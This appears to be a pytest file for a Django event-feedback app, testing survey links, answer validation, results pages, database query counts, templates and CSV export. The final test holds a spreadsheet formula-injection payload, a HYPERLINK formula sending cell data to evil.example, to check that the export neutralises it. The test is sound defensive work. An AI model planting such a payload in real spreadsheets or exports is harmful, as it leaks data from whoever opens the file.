"""Feedback pages: answering by link and in the app, results, programme, evidence, query counts."""

from __future__ import annotations

import csv
import io
import re
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from knowflow.accounts.models import Person
from knowflow.events.models import Attendance
from knowflow.feedback.models import Response, RetrospectiveAction
from knowflow.feedback.services.responses import survey_response_submit
from tests.conftest import signed_in
from tests.factories import make_person
from tests.feedback.helpers import GOOD, answer_all, attend, ended_occurrence, open_requests, people
from tests.feedback.test_evidence import evidence_rows

pytestmark = pytest.mark.django_db


def errors_of(html: str) -> list[str]:
    return re.findall(r'<ul class="errorlist"[^>]*><li>([^<]+)</li>', html)


@pytest.fixture
def link() -> tuple:
    occurrence = ended_occurrence()
    attend(occurrence, people(1))
    ((request, token),) = open_requests(occurrence).values()
    return request, token


def form_data(answers: dict) -> dict:
    return {key: value for key, value in answers.items() if value not in ("", None)}


def test_personal_link_works_without_signing_in_and_only_once(link: tuple) -> None:
    request, token = link
    client = Client()
    page = client.get(f"/feedback/r/{token}/")
    assert page.status_code == 200
    assert "How able are you to apply this now?" in page.content.decode()
    done = client.post(f"/feedback/r/{token}/", form_data(GOOD))
    assert re.search(r"<h1>Thank you</h1>", done.content.decode())
    assert Response.objects.count() == 1
    again = client.post(f"/feedback/r/{token}/", form_data(GOOD))
    assert again.status_code == 404
    assert "This survey link is not valid" in again.content.decode()
    assert Response.objects.count() == 1


def test_missing_required_answer_shows_the_error_on_the_field(link: tuple) -> None:
    _, token = link
    page = Client().post(f"/feedback/r/{token}/", form_data({**GOOD, "relevance": ""}))
    assert page.status_code == 200
    assert errors_of(page.content.decode()) == ["Please answer “How relevant is it to your work?”."]
    assert Response.objects.count() == 0


def test_twelve_on_the_scale_is_refused_clearly(link: tuple) -> None:
    _, token = link
    page = Client().post(f"/feedback/r/{token}/", form_data({**GOOD, "reputation_nps": "12"}))
    assert errors_of(page.content.decode()) == [
        "“Reputation (optional): how likely are you to recommend this session to a colleague?”: "
        "12 is outside the scale; give a number from 0 to 10."
    ]
    assert Response.objects.count() == 0


def test_in_app_request_is_listed_on_home_and_only_its_person_may_open_it(link: tuple) -> None:
    request, _ = link
    owner = signed_in(request.person)
    home = owner.get("/").content.decode()
    assert f'href="/feedback/requests/{request.pk}/"' in home
    assert owner.get(f"/feedback/requests/{request.pk}/").status_code == 200
    assert signed_in(make_person()).get(f"/feedback/requests/{request.pk}/").status_code == 404
    owner.post(f"/feedback/requests/{request.pk}/", form_data(GOOD))
    assert f'href="/feedback/requests/{request.pk}/"' not in owner.get("/").content.decode()


def _answered_session(n: int) -> tuple:
    speaker = make_person()
    occurrence = ended_occurrence(speakers=[speaker])
    attend(occurrence, people(n // 2))
    attend(occurrence, people(n - n // 2), mode=Attendance.Mode.ONLINE)
    for request, _ in open_requests(occurrence).values():
        survey_response_submit(request=request, answers=GOOD)
    return occurrence, speaker


def test_results_page_shows_rate_distribution_themes_and_svg() -> None:
    occurrence, speaker = _answered_session(6)
    url = f"/feedback/sessions/{occurrence.session.slug}/"
    page = signed_in(speaker).get(url).content.decode()
    german = signed_in(speaker).get(url, HTTP_ACCEPT_LANGUAGE="de-DE").content.decode()
    assert re.search(
        r"<td>After the session <span class=\"badge\">anonymous</span></td><td>6</td><td>6</td><td>100%</td><td>6 responses</td>",
        page,
    )
    assert '<svg xmlns="http://www.w3.org/2000/svg" class="chart" role="img"' in page
    # The chart writes its shares as the reader's locale does, like the rest of the page.
    assert "★ Above the standard" in page and "★ 100% (6)" in page
    assert "★ 100\xa0% (6)" in german
    assert "Try it on our deployment pipeline" in page


def test_retrospective_actions_have_an_owner_and_a_done_flag() -> None:
    occurrence, speaker = _answered_session(5)
    client = signed_in(speaker)
    client.post(
        f"/feedback/occurrences/{occurrence.pk}/actions/",
        {"text": "Test the room microphone", "owner": speaker.display_name},
    )
    action = RetrospectiveAction.objects.get()
    assert (action.text, action.owner, action.done) == ("Test the room microphone", speaker, False)
    client.post(f"/feedback/actions/{action.pk}/done/", {"done": "1"})
    action.refresh_from_db()
    assert action.done is True
    outsider = signed_in(make_person())
    assert outsider.post(f"/feedback/actions/{action.pk}/done/", {"done": "0"}).status_code == 403


def _queries(client: Client, url: str) -> int:
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
    assert response.status_code == 200
    return len(captured)


def test_results_page_query_count_does_not_grow_with_responses() -> None:
    small, speaker_small = _answered_session(5)
    large, speaker_large = _answered_session(12)
    a = _queries(signed_in(speaker_small), f"/feedback/sessions/{small.session.slug}/")
    b = _queries(signed_in(speaker_large), f"/feedback/sessions/{large.session.slug}/")
    assert a == b
    assert b <= 22


def test_programme_and_evidence_query_counts_are_fixed() -> None:
    enabler = signed_in(make_person(role=Person.Role.ENABLER))
    _answered_session(5)
    counts = {
        g: _queries(enabler, f"/feedback/programme/?group_by={g}")
        for g in ("session", "circle", "format", "mode")
    }
    evidence_one = _queries(enabler, "/feedback/evidence/")
    _answered_session(6)
    _answered_session(7)
    assert {g: _queries(enabler, f"/feedback/programme/?group_by={g}") for g in counts} == counts
    assert _queries(enabler, "/feedback/evidence/") == evidence_one
    assert max(counts.values()) <= 12


def test_programme_compares_room_and_online() -> None:
    _answered_session(10)
    page = (
        signed_in(make_person(role=Person.Role.ENABLER))
        .get("/feedback/programme/?group_by=mode")
        .content.decode()
    )
    assert "<td>In the room</td>" in page and "<td>Online</td>" in page


def test_evidence_view_says_what_each_session_knows() -> None:
    occurrence, _ = _answered_session(5)
    page = (
        signed_in(make_person(role=Person.Role.ENABLER)).get("/feedback/evidence/").content.decode()
    )
    assert evidence_rows(page) == [
        [
            occurrence.session.title,
            "attendance recorded; people say what they learned (self-reported)",
            "5",
            "—",
            "✓ 5",
            "✓ 5",
            "—",
            "—",
        ]
    ]


def test_speaker_sees_own_sessions_over_time() -> None:
    occurrence, speaker = _answered_session(5)
    page = signed_in(speaker).get("/feedback/mine/?tz=Asia/Tokyo").content.decode()
    assert occurrence.session.title in page
    assert "<td>5</td>" in page
    # Each date's chart is named for a screen reader as the page writes dates, in the
    # viewer's zone, not as the database stores them.
    start = occurrence.start.astimezone(ZoneInfo("Asia/Tokyo"))
    assert f"<title>{start:%a} {start.day} {start:%b %Y, %H:%M} JST</title>" in page
    assert f"<title>{occurrence.start}</title>" not in page


def test_templates_page_lists_standards_and_enablers_can_copy() -> None:
    enabler = signed_in(make_person(role=Person.Role.ENABLER))
    page = enabler.get("/feedback/templates/").content.decode()
    assert (
        'I can apply it on my own in my work. <span class="badge">Above the standard</span>' in page
    )
    from knowflow.feedback.models import SurveyTemplate

    shipped = SurveyTemplate.objects.get(family="trainer-retrospective")
    enabler.post(f"/feedback/templates/{shipped.pk}/copy/", {"name": "Our retro"})
    copy = SurveyTemplate.objects.get(name="Our retro")
    assert (copy.kind, copy.anonymous, copy.version, copy.questions.count()) == (
        "retrospective",
        False,
        1,
        4,
    )


def test_results_csv_neutralises_a_hostile_comment() -> None:
    occurrence = ended_occurrence()
    attend(occurrence, people(5))
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    answer_all(occurrence, {**GOOD, "first_step": hostile})
    client = signed_in(make_person(role=Person.Role.ENABLER))
    body = client.get(f"/feedback/sessions/{occurrence.session.slug}/export.csv").content.decode()
    rows = list(csv.reader(io.StringIO(body)))
    comments = [row[4] for row in rows if row[-1] == "comment"]
    assert comments == ["'" + hostile] * 5
    assert [cell for row in rows for cell in row if cell.startswith(("=", "@", "+", "-"))] == []
